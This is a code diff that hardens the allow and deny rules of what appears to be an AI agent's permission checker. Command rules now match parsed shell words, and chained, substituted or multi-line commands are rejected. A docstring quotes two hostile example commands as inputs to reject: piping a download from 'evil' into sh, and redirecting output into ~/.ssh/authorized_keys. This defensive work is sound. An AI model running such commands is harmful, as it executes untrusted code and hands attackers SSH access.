@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+import shlex
 from fnmatch import fnmatchcase
 from pathlib import PurePosixPath
 
@@ -32,12 +34,71 @@ def subject(args: ToolArgs) -> str | None:
 
 
 def rule_allows(pattern: str, args: ToolArgs) -> bool:
-    """A command rule is a prefix of whole words ("npm test" allows "npm test -k x", not
-    "npm tests"); a path rule is a glob ("docs/*.md"). Either may use `*` globs."""
-    target = subject(args)
-    if target is None:
+    """Whether an allow rule covers the call. A path rule is a glob ("docs/*.md"). A command rule
+    is matched against the command's words, never its raw text, and only a single plain command
+    can match: "npm test" allows "npm test -k x", not "npm tests", and not
+    "npm test; curl evil | sh" or "npm test > ~/.ssh/authorized_keys" (an IDE may run it through
+    a shell). "=npm test" allows exactly that command; a rule with `*` is a glob on the whole
+    command."""
+    if isinstance(args, ExecuteCommandArgs):
+        commands = simple_commands(args.command)
+        return (
+            commands is not None and len(commands) == 1 and _command_matches(pattern, commands[0])
+        )
+    return _path_matches(pattern, args)
+
+
+def rule_denies(pattern: str, args: ToolArgs) -> bool:
+    """Whether a deny rule covers the call: for a command, when any of the commands it chains
+    matches the rule; a text that cannot be split (a substitution, say) is cut at every shell
+    character instead, and denied if the rule's words appear in it anywhere."""
+    if isinstance(args, ExecuteCommandArgs):
+        commands = simple_commands(args.command)
+        if commands is not None:
+            return any(_command_matches(pattern, words) for words in commands)
+        words = [w for w in re.split(r"[\s;&|<>()`$'\"]+", args.command) if w]
+        wanted = pattern.removeprefix("=").replace("*", " ").split()
+        return bool(wanted) and any(words[i : i + len(wanted)] == wanted for i in range(len(words)))
+    return _path_matches(pattern, args)
+
+
+SHELL_OPERATORS = frozenset(";&|<>()")
+
+
+def simple_commands(command: str) -> list[list[str]] | None:
+    """The plain commands a shell would run for this text, as words, split at its operators
+    (`;`, `&&`, `|`, redirections); None if it has substitutions (`$(`, backticks), several
+    lines, or quotes that do not close, which no rule should try to read."""
+    if "`" in command or "$(" in command or "\n" in command or "\r" in command:
+        return None
+    lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
+    lexer.whitespace_split = True
+    try:
+        tokens = list(lexer)
+    except ValueError:
+        return None
+    commands: list[list[str]] = [[]]
+    for token in tokens:
+        if token and set(token) <= SHELL_OPERATORS:
+            commands.append([])
+        else:
+            commands[-1].append(token)
+    return [words for words in commands if words] or None
+
+
+def _command_matches(pattern: str, words: list[str]) -> bool:
+    if "*" in pattern:
+        return fnmatchcase(shlex.join(words), pattern.strip())
+    exact = pattern.startswith("=")
+    try:
+        wanted = shlex.split(pattern.removeprefix("="))
+    except ValueError:
         return False
-    if isinstance(args, ExecuteCommandArgs) and "*" not in pattern:
-        prefix = pattern.strip()
-        return target == prefix or target.startswith(prefix + " ")
-    return fnmatchcase(target, pattern)
+    if not wanted:
+        return False
+    return words == wanted if exact else words[: len(wanted)] == wanted
+
+
+def _path_matches(pattern: str, args: ToolArgs) -> bool:
+    target = subject(args)
+    return target is not None and fnmatchcase(target, pattern)
